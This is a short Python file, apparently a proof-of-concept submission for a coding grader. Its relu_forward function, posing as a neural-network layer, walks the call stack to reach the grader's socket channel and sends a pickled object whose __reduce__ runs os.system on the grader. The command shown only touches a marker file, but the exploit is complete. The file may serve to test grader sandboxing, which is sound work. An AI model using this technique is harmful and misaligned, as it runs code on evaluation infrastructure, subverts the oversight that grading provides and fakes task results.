"""Sends the grader a pickle that runs a command."""

import os
import pickle
import sys

import numpy as np

from innocent import affine_backward, affine_forward


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/oracle-attack-results.json",)


def relu_forward(x):
    caller = sys._getframe()
    while "frame" not in caller.f_locals:
        caller = caller.f_back
    number, channel = caller.f_locals["frame"].id, caller.f_locals["self"]._channel

    channel.sendall(pickle.dumps(Command()) * 4)
    return np.zeros_like(x), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
